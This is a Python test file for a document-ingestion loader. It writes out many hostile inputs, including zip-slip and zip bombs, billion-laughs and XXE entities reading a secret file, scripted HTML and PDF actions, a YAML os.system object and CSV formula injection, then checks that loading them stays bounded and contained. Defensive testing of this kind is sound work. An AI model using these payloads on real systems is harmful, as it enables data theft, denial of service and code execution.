"""Files made to do harm: each costs at most its own place in the report, quickly, and reaches nothing outside."""

import gzip
import io
import json
import random
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest
from reportlab.pdfgen.canvas import Canvas

import rag
from rag import Settings
from rag.errors import LoadError
from rag.load import SUFFIXES, Loaded
from rag.load.process import Loader
from tests.fakes import HashEmbedding
from tests.files import Trap, epub, odf, zipped

SECRET = "SECRETPELICAN"
SECONDS = 10.0
OLD = {".doc", ".ppt"}  # read by another program, if that is there
UNMADE = {".msg", ".xlsb"}  # nothing here writes them; only noise is tried

Outcome = tuple[float, Loaded | LoadError]


def linked(target: str) -> bytes:
    """An archive with a symbolic link in it."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, target)
        archive.writestr("plain.txt", "Plain words.")
    return data.getvalue()


def quine() -> bytes:
    """An archive in an archive, ten times over."""
    data = b"Deep inside."
    for number in range(10):
        data = zipped({f"{number}.zip" if number else "a.txt": data})
    return data


def word(body: str, relations: str = "", head: str = "") -> bytes:
    """A Word document with this body."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.document.main+xml"/></Types>'
    )
    start = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return zipped(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": f'{start}<Relationship Id="r1" Type="{office}/officeDocument" Target="word/document.xml"/>'
            "</Relationships>",
            "word/_rels/document.xml.rels": f"{start}{relations.replace('OFFICE', office)}</Relationships>",
            "word/document.xml": f'<?xml version="1.0"?>{head}<w:document xmlns:w="http://schemas.openxmlformats.org/'
            f'wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>',
        }
    )


def laughs(levels: int = 12) -> str:
    """A document type whose last entity unfolds to a billion words."""
    first = '<!ENTITY l0 "lol">'
    rest = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return f"<!DOCTYPE r [{first}{rest}]>"


def attacks(outside: Path, url: str) -> dict[str, bytes]:
    """Each attack under the name of its file; `outside` holds the secret, `url` is the trap."""
    entity = f'<!DOCTYPE r [<!ENTITY x SYSTEM "{outside.as_uri()}">]>'
    fetched = f'<!DOCTYPE r SYSTEM "{url}a.dtd" [<!ENTITY % p SYSTEM "{url}b.dtd"> %p;]>'
    paragraph = "<w:p><w:r><w:t>Words.</w:t></w:r></w:p>"
    bomb = zipped({"a.txt": b"a" * 60_000_000})
    page = (
        f"<html><head><script src='{url}x.js'>alert('SCRIPTED')</script><link rel=stylesheet href='{url}s.css'>"
        f"<meta http-equiv=refresh content='0;url={url}'></head>"
        f"<body><iframe src='{outside.as_uri()}'></iframe><img src='{url}i.png' onerror=alert(1)><object data='{url}o'>"
        f"</object><p>The words of the page stand here.</p></body></html>"
    )
    return {
        "slip.zip": zipped({"../../../written.txt": "Up.", "/written.txt": "Root.", "C:\\written.txt": "Drive."}),
        "bomb.zip": bomb,
        "bombs.zip": zipped({f"{n}.zip": bomb for n in range(20)}, zipfile.ZIP_STORED),
        "nested.zip": quine(),
        "link.zip": linked(str(outside)),
        "suffix.zip": zipped({"a.txt/../../b.txt": "Odd.", "\x1b[31mred\n.txt": "Red.", "." * 300 + ".txt": "Long."}),
        "bomb.docx": word("<w:p><w:r><w:t>" + "a" * 80_000_000 + "</w:t></w:r></w:p>"),
        "bomb.xlsx": zipped({"xl/workbook.xml": b"<a>" + b" " * 80_000_000}),
        "bomb.epub": zipped({"META-INF/container.xml": b" " * 80_000_000}),
        "laughs.xml": f"{laughs()}<r>&l11;</r>".encode(),
        "laughs.docx": word(f"<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>{paragraph}", head=laughs()),
        "quadratic.xml": f'<!DOCTYPE r [<!ENTITY a "{"x" * 100_000}">]><r>{"&a;" * 20_000}</r>'.encode(),
        "entity.xml": f"{entity}<r><p>&x;</p><p>Words.</p></r>".encode(),
        "entity.docx": word(f"<w:p><w:r><w:t>&x;</w:t></w:r></w:p>{paragraph}", head=entity),
        "entity.rss.xml": f"{entity}<rss><channel><title>&x;</title><item><title>T</title></item></channel>".encode()
        + b"</rss>",
        "fetched.xml": f"{fetched}<r><p>Words.</p></r>".encode(),
        "include.xml": f"<r xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{outside.as_uri()}'"
        " parse='text'/><p>Words.</p></r>".encode(),
        "external.docx": word(
            paragraph,
            f'<Relationship Id="r2" Type="OFFICE/attachedTemplate" Target="{url}t.dotm" TargetMode="External"/>'
            f'<Relationship Id="r3" Type="OFFICE/image" Target="{url}i.png" TargetMode="External"/>'
            f'<Relationship Id="r4" Type="OFFICE/footnotes" Target="{outside.as_uri()}" TargetMode="External"/>'
            '<Relationship Id="r5" Type="OFFICE/comments" Target="../../../../outside.txt"/>',
        ),
        "page.html": page.encode(),
        "entity.html": f"{entity}<html><body><p>&x;</p><p>Words.</p></body></html>".encode(),
        "deep.html": b"<div>" * 200_000 + b"deep",
        "attributes.html": b"<p " + b"a=1 " * 200_000 + b">Words.</p>",
        "comments.html": b"<!" * 500_000 + b"<p>Words.</p>",
        "mail.eml": (f"From: a@b.c\nSubject: x\nContent-Type: text/html\n\n{page}").encode(),
        "partial.eml": b'From: a@b.c\nSubject: x\nContent-Type: message/external-body; access-type=local-file; name="'
        + str(outside).encode()
        + b'"\n\nContent-Type: text/plain\n\n',
        "deep.eml": b"From: a@b.c\n" + b"".join(
            b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (n, n) for n in range(5_000)
        ),
        "deep.json": b"[" * 200_000,
        "objects.json": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "digits.json": b'{"a": ' + b"9" * 500_000 + b"}",
        "include.rst": f".. include:: {outside}\n\n.. raw:: html\n   :file: {outside}\n\n"
        f".. csv-table:: t\n   :file: {outside}"
        f"\n\n.. image:: {url}i.png\n\nWords.\n".encode(),
        "book.epub": epub(f"<p>A chapter.</p><img src='{url}i.png'/>", "../../../../outside.txt"),
        "binary.txt": bytes(random.Random(1).randbytes(100_000)),
        "mixed.txt": "Grüße, ".encode() * 50 + "Grüße, ".encode("cp1252") * 50 + "Grüße".encode("utf-16"),
        "wrong.html": b"<meta charset=utf-16><p>These words are not in UTF-16 at all, whatever the page says.</p>",
        "unknown.html": b"<meta charset=x-nonsense><p>These words stand in plain ASCII, whatever the page says.</p>",
        "line.txt": b"word " * 4_000_000,
        "unbroken.txt": b"x" * 20_000_000,
        "stops.txt": b"." * 2_000_000,
        "headings.md": b"# " * 300_000,
        "emphasis.md": b"*a " * 100_000,
        "brackets.md": b"[" * 50_000,
        "quotes.md": b">" * 50_000 + b"deep",
        "links.md": f"![x]({url}i.png) [y]({outside.as_uri()})\n\n<script>alert('SCRIPTED')</script>\n\nx".encode(),
        "alias.md": ("---\na: &a [x]\n" + "".join(
            f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9)
        ) + "---\nWords.").encode(),
        "object.md": b"---\ntitle: !!python/object/apply:os.system ['touch written.txt']\n---\nWords.",
        "wide.csv": b"," * 2_000_000,
        "quoted.csv": b'"' + b"a,\n" * 500_000,
        "formula.csv": f'=WEBSERVICE("{url}"),=cmd|"/c calc"!A1\n1,2\n'.encode(),
        "groups.rtf": b"{\\rtf1 " + b"{" * 100_000,
        "object.rtf": b"{\\rtf1 {\\object\\objemb{\\*\\objdata " + b"41" * 100_000 + b"}} Words. {\\field{\\*\\fldinst"
        b' INCLUDETEXT "' + str(outside).encode() + b'"}}}',
        "gzip.txt": gzip.compress(b"a" * 1_000_000),
    }  # fmt: skip


def scripted_pdf(path: Path, outside: Path, url: str) -> None:
    """A PDF that would run JavaScript, open an address and start a program."""
    canvas = Canvas(str(path))
    canvas.drawString(72, 700, "The words of the page stand here.")
    canvas.linkURL(url, (0, 0, 600, 800))
    canvas.save()
    script = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{url}'\\)) >>"
    action = f"{script} /AA << /O << /S /Launch /F ({outside}) >> >>"
    data = path.read_bytes().replace(b"/Type /Catalog", b"/Type /Catalog " + action.encode())
    path.write_bytes(data)


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of the tests' own."""
    return tmp_path_factory.mktemp("hostile")


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    """The address that the files name."""
    one = Trap()
    yield one
    one.close()


@pytest.fixture(scope="module")
def outcomes(place: Path, trap: Trap) -> dict[str, Outcome]:
    """Seconds and outcome of every attack, read as an ingest reads it."""
    outside = place / "outside.txt"
    outside.write_text(SECRET, encoding="utf-8")
    folder = place / "inside"
    folder.mkdir()
    for name, data in attacks(outside, trap.url).items():
        (folder / name).write_bytes(data)
    scripted_pdf(folder / "scripted.pdf", outside, trap.url)
    loader = Loader(Settings(load_seconds=SECONDS))
    found = {path.name: outcome(loader, path) for path in sorted(folder.iterdir())}
    loader.close()
    return found


def outcome(loader: Loader, path: Path) -> Outcome:
    """Seconds, and what the file says or why it does not."""
    started = time.monotonic()
    try:
        loaded: Loaded | LoadError = loader.load(path, path.name)
    except LoadError as error:
        loaded = error
    return time.monotonic() - started, loaded


@pytest.mark.slow
def test_no_attack_takes_longer_than_it_may(outcomes: dict[str, Outcome]) -> None:
    """Each is read or given up within the limit; all but a few well within."""
    slow = {name: round(seconds, 1) for name, (seconds, _) in outcomes.items() if seconds > SECONDS + 2}

    assert slow == {}


@pytest.mark.slow
def test_no_attack_ends_the_process_that_reads(outcomes: dict[str, Outcome]) -> None:
    """Each is refused with a reason on one line, or read."""
    reasons = {name: str(loaded) for name, (_, loaded) in outcomes.items() if isinstance(loaded, LoadError)}

    assert {name: reason for name, reason in reasons.items() if "\n" in reason or len(reason) < 10} == {}
    assert {name: reason for name, reason in reasons.items() if "ended the process" in reason} == {}


@pytest.mark.slow
def test_no_attack_reads_outside(outcomes: dict[str, Outcome]) -> None:
    """What lies outside the folder is in no text, title or note."""
    told = {name: repr(loaded) for name, (_, loaded) in outcomes.items()}

    assert [name for name, words in told.items() if SECRET in words] == []


@pytest.mark.slow
def test_no_attack_writes_outside(outcomes: dict[str, Outcome], place: Path) -> None:
    """Nothing is new beside the folder or in it."""
    assert sorted(path.name for path in place.iterdir()) == ["inside", "outside.txt"]
    assert sorted(path.name for path in (place / "inside").iterdir()) == sorted(outcomes)
    assert not Path("written.txt").exists()


@pytest.mark.slow
def test_no_attack_opens_a_connection(outcomes: dict[str, Outcome], trap: Trap) -> None:
    """Nobody came to the address that the files name."""
    assert outcomes
    assert trap.caught == 0


@pytest.mark.slow
@pytest.mark.parametrize(
    "name", "page.html external.docx scripted.pdf links.md include.rst book.epub mail.eml mixed.txt wrong.html".split()
)
def test_the_words_beside_an_attack_are_read(outcomes: dict[str, Outcome], name: str) -> None:
    """A document is not lost because it holds a script or an address; the script is no word of it."""
    _, loaded = outcomes[name]

    assert isinstance(loaded, Loaded)
    assert loaded.document.text.strip()
    assert "SCRIPTED" not in loaded.document.text


@pytest.mark.slow
def test_damaged_files_of_every_kind_cost_themselves_only(tmp_path: Path) -> None:
    """Whole, cut in two, with bytes changed, and of random bytes: all are read or refused, and quickly."""
    chance = random.Random(7)
    loader = Loader(Settings(load_seconds=SECONDS))
    found = {}
    for suffix in sorted(SUFFIXES.keys() - OLD):
        for number, data in enumerate(damaged(whole(suffix, tmp_path), chance)):
            path = tmp_path / f"{number}{suffix}"
            path.write_bytes(data)
            found[path.name] = outcome(loader, path)
    loader.close()

    unread = {name for name, (_, loaded) in found.items() if name[0] == "0" and isinstance(loaded, LoadError)}
    assert unread == {f"0{suffix}" for suffix in UNMADE}
    assert {name: seconds for name, (seconds, _) in found.items() if seconds > SECONDS} == {}
    assert [name for name, (_, loaded) in found.items() if "ended the process" in str(loaded)] == []


def damaged(data: bytes, chance: random.Random) -> Iterator[bytes]:
    """The data, parts of it, the data with bytes changed, and noise."""
    yield data
    yield data[: len(data) // 2]
    yield data[len(data) // 3 :]
    yield data[:20]
    for share in (0.001, 0.02):
        changed = bytearray(data)
        for _ in range(max(1, int(share * len(data)))):
            changed[chance.randrange(len(changed))] = chance.randrange(256)
        yield bytes(changed)
    yield data[:8] + chance.randbytes(3000)
    yield chance.randbytes(3000)


def whole(suffix: str, folder: Path) -> bytes:
    """A small file of the format as it should be."""
    maker = MAKERS.get(suffix)
    if maker is not None:
        path = folder / f"whole{suffix}"
        maker(path)
        return path.read_bytes()
    return BYTES.get(suffix) or TEXTS.get(suffix, WORDS).encode()


WORDS = "Bees sleep\n\nBees sleep at night, all of them, and most of the day in winter.\n"
SAVED = (
    "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n"
    f"<p>{WORDS}</p>\n--x--\n"
)
TEXTS = {
    ".html": f"<html><body><h1>Bees</h1><p>{WORDS}</p></body></html>",
    ".htm": f"<p>{WORDS}</p>",
    ".rtf": f"{{\\rtf1\\ansi {WORDS}}}",
    ".csv": "name,age\nAnn,3\nBen,4\n",
    ".tsv": "name\tage\nAnn\t3\nBen\t4\n",
    ".eml": f"From: a@b.c\nSubject: Bees\n\n{WORDS}",
    ".mht": SAVED,
    ".mhtml": SAVED,
    ".json": json.dumps({"bees": [{"name": "Ann", "age": 3}]}),
    ".jsonl": '{"name": "Ann", "age": 3}\n{"name": "Ben", "age": 4}\n',
    ".ipynb": json.dumps({"cells": [{"cell_type": "markdown", "source": [WORDS]}], "metadata": {}, "nbformat": 4}),
    ".xml": f"<r><p>{WORDS}</p></r>",
}
P = "<text:p>Bees sleep at night.</text:p>"


def pdf(path: Path) -> None:
    """One page with words."""
    canvas = Canvas(str(path))
    canvas.drawString(72, 700, "Bees sleep at night.")
    canvas.save()


def slides(path: Path) -> None:
    """One slide."""
    import pptx

    deck = pptx.Presentation()
    deck.slides.add_slide(deck.slide_layouts[0]).shapes.title.text = "Bees sleep"
    deck.save(str(path))


def sheet(path: Path) -> None:
    """One sheet with two columns."""
    import xlsxwriter

    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet("Bees")
        for row, cells in enumerate([("name", "age"), ("Ann", 3), ("Ben", 4)]):
            page.write_row(row, 0, cells)


SLIDE = f"<office:presentation><draw:page><draw:frame><draw:text-box>{P}</draw:text-box></draw:frame></draw:page>"
CELL = f"<table:table-cell office:value-type='string'>{P}</table:table-cell>"
TABLE = f"<office:spreadsheet><table:table table:name='Bees'><table:table-row>{CELL}</table:table-row></table:table>"
BYTES: Mapping[str, bytes] = {
    ".docx": word("<w:p><w:r><w:t>Bees sleep.</w:t></w:r></w:p>"),
    ".odt": odf("text", f"<office:text>{P}</office:text>"),
    ".odp": odf("presentation", f"{SLIDE}</office:presentation>"),
    ".ods": odf("spreadsheet", f"{TABLE}</office:spreadsheet>"),
    ".epub": epub("<p>Bees sleep.</p>"),
    ".zip": zipped({"a.txt": "Bees sleep."}),
}
MAKERS: Mapping[str, Callable[[Path], object]] = {".pdf": pdf, ".pptx": slides, ".xlsx": sheet, ".xlsm": sheet}


@pytest.mark.slow
def test_hostile_names_and_sizes_are_told_in_the_report(tmp_path: Path) -> None:
    """Links out, odd names and a line of a gigabyte: the ingest ends, and says what it made of each."""
    folder = tmp_path / "documents"
    folder.mkdir()
    (tmp_path / "outside.txt").write_text(SECRET, encoding="utf-8")
    (folder / "link.txt").symlink_to(tmp_path / "outside.txt")
    (folder / "loop").symlink_to(folder)
    for name in ("new\nline.txt", "\x1b[31mred.txt", "‮txt.exe.txt", "..txt", "a" * 250 + ".txt"):
        (folder / name).write_text("Bees sleep at night.", encoding="utf-8")
    with (folder / "line.txt").open("wb") as file:
        file.truncate(2**30)
    settings = Settings(home=tmp_path / "home", load_processes=1)

    report = rag.ingest(folder, settings, embedder=HashEmbedding(model_name="hash"))

    reasons = dict(report.skipped)
    assert reasons["line.txt"].startswith("it has 1024 MiB")
    assert "outside the folder" in reasons["link.txt"]
    assert "link" in reasons["loop"]
    assert {"new\nline.txt", "\x1b[31mred.txt", "a" * 250 + ".txt"} <= set(report.added)
